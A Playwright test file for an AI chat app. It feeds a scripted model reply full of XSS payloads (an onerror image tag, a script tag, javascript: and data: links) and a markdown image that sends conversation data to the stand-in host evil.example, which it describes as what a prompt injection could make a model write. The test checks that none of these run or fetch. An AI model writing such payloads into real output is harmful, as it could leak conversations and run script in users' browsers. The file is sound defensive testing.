import { expect, signIn, test } from "./fixtures";
import { expectConversationUrl, replies, scriptedModel, sendMessage } from "./assistant-support";

test.beforeEach(async () => {
  await scriptedModel.reset();
});

// What a prompt injection could make a model write.
const HOSTILE_REPLY = [
  "Raw HTML: <img src=x onerror=\"window.__pwned='img'\"> and <b onmouseover=\"window.__pwned='b'\">bold?</b>",
  "",
  "<script>window.__pwned = 'script'</script>",
  "",
  "[click me](javascript:window.__pwned='link') and [data](data:text/html,<script>alert(1)</script>)",
  "",
  "![secret](https://evil.example/leak?conversation=secret-data)",
  "",
  "A real link: [docs](https://example.org/docs) and mail: [write](mailto:someone@example.org)",
  "",
  "```js",
  "const answer = 42;",
  "```",
].join("\n");

test("model output cannot run script, load images or carry javascript: links", async ({ page, newAccount }) => {
  const outbound: string[] = [];
  await page.route("https://evil.example/**", (route) => {
    outbound.push(route.request().url());
    return route.abort();
  });
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });

  await signIn(page, await newAccount());
  await page.goto("/nuvara");
  await scriptedModel.enqueue({ type: "text", text: HOSTILE_REPLY });
  await sendMessage(page, "Say something dangerous");
  const reply = replies(page).first();
  await expect(reply.getByText("A real link")).toBeVisible();
  await expectConversationUrl(page);

  for (const view of ["streamed", "reloaded"]) {
    if (view === "reloaded") {
      await page.reload();
      await expect(reply.getByText("A real link")).toBeVisible();
    }
    // Raw HTML is shown as text, not rendered.
    await expect(reply.getByText("<img src=x onerror=\"window.__pwned='img'\">", { exact: false })).toBeVisible();
    await expect(reply.getByText("<script>window.__pwned = 'script'</script>")).toBeVisible();
    await expect(reply.locator("img, script, iframe, b[onmouseover]")).toHaveCount(0);
    await reply.getByText("bold?", { exact: false }).hover();

    // javascript: and data: links are plain text.
    await expect(reply.getByRole("link", { name: "click me" })).toHaveCount(0);
    await expect(reply.getByText("click me")).toBeVisible();
    await expect(reply.getByRole("link", { name: "data" })).toHaveCount(0);

    // The image is a link the user may open, never fetched.
    const image = reply.getByRole("link", { name: "[Image: secret]" });
    await expect(image).toHaveAttribute("href", "https://evil.example/leak?conversation=secret-data");
    await expect(image).toHaveAttribute("rel", "noopener noreferrer");

    // Safe links open in a new tab without the opener.
    const docs = reply.getByRole("link", { name: "docs" });
    await expect(docs).toHaveAttribute("href", "https://example.org/docs");
    await expect(docs).toHaveAttribute("target", "_blank");
    await expect(docs).toHaveAttribute("rel", "noopener noreferrer");
    await expect(reply.getByRole("link", { name: "write" })).toHaveAttribute("href", "mailto:someone@example.org");

    // Code is highlighted and has a copy button.
    await expect(reply.getByRole("button", { name: "Copy code" })).toBeVisible();
    await expect(reply.locator("code.hljs.language-js .hljs-keyword", { hasText: "const" })).toBeVisible();
  }

  expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(outbound).toEqual([]);
});
